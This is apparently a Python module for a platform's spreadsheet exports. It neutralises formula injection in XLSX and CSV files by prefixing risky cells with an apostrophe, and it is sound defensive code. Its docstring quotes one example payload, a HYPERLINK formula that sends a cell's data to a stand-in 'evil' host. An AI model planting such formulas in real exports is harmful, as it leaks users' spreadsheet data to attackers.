"""Writing the spreadsheets the platform hands out (XLSX and CSV), safely.

Every exported cell goes through :func:`safe_cell`: text that a spreadsheet would run as a
formula — a resident named ``=HYPERLINK("http://evil/?"&A1,"click")`` — is neutralised by
OWASP's rule (a leading ``'`` before ``=``, ``+``, ``-``, ``@``, tab or carriage return),
so it shows as the text it is. Numbers stay numbers. Every writer in the project uses
:func:`xlsx_bytes` or :func:`csv_bytes`, so no export can forget it.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Mapping, Sequence
from dataclasses import dataclass, field

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# Characters XML 1.0 cannot carry; openpyxl refuses them (text from a CSV may hold them).
_ILLEGAL_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")


def safe_cell(value: object) -> object:
    """``value`` as a cell that no spreadsheet will evaluate: text starting with a formula
    character gets a leading apostrophe; everything else is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


@dataclass
class Sheet:
    """One worksheet to write: a bold header row, then ``rows``.

    ``text_columns`` (letters) are formatted as text for the first ``text_rows`` rows, so
    that Excel keeps what people type there (an ID number) instead of making it a number.
    """

    title: str
    header: Sequence[object]
    rows: Iterable[Sequence[object]] = ()
    header_fill: str | None = None
    text_columns: Sequence[str] = ()
    text_rows: int = 0
    widths: Mapping[str, float] = field(default_factory=dict)


def _xlsx_cell(value: object) -> object:
    value = safe_cell(value)
    if isinstance(value, str):
        return _ILLEGAL_XML.sub("", value)
    return value


def xlsx_bytes(sheets: Sequence[Sheet]) -> bytes:
    """A workbook of ``sheets``, every cell passed through :func:`safe_cell`."""
    from openpyxl import Workbook  # imported here: most requests never write a workbook
    from openpyxl.styles import Font, PatternFill

    book = Workbook()
    book.remove(book.active)
    for spec in sheets:
        sheet = book.create_sheet(spec.title)
        if spec.header:
            sheet.append([_xlsx_cell(v) for v in spec.header])
            for cell in sheet[1]:
                cell.font = Font(bold=True)
                if spec.header_fill:
                    cell.fill = PatternFill("solid", fgColor=spec.header_fill)
        for row in spec.rows:
            sheet.append([_xlsx_cell(v) for v in row])
        for column in spec.text_columns:
            for number in range(1, spec.text_rows + 1):
                sheet[f"{column}{number}"].number_format = "@"
        for column, width in spec.widths.items():
            sheet.column_dimensions[column].width = width
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def csv_bytes(header: Sequence[object], rows: Iterable[Sequence[object]]) -> bytes:
    """CSV in UTF-8 with a byte-order mark (so that Excel in China reads it as UTF-8),
    every cell passed through :func:`safe_cell`."""
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer)
    writer.writerow([safe_cell(v) for v in header])
    for row in rows:
        writer.writerow([safe_cell(v) for v in row])
    return b"\xef\xbb\xbf" + buffer.getvalue().encode("utf-8")
